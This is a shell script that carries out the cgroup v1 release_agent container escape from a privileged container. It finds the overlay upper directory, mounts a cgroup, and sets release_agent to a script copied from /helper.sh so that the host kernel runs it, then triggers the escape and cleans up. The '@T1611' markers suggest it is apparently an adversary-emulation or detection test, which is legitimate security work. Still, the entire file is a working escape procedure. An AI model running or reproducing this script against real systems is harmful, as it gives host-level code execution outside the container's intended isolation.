#!/bin/sh
# Runs in a privileged container. It mounts a cgroup v1 hierarchy of its own and names a program of its own as the one
# that the kernel starts when a group has emptied. The helper is found through the overlay's upper directory.
UPPER=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1)
cp /helper.sh /r.sh
chmod 755 /r.sh
mkdir /tmp/g
echo "@T1611 a cgroup hierarchy is mounted"
mount -t cgroup -o net_cls none /tmp/g
mkdir /tmp/g/x
echo 1 > /tmp/g/x/notify_on_release
echo "@T1611 release_agent set to a program of the container"
echo "$UPPER/r.sh" > /tmp/g/release_agent
sh -c 'echo $$ > /tmp/g/x/cgroup.procs'
sleep 1.5
echo > /tmp/g/release_agent
rmdir /tmp/g/x
umount /tmp/g
echo "@end"
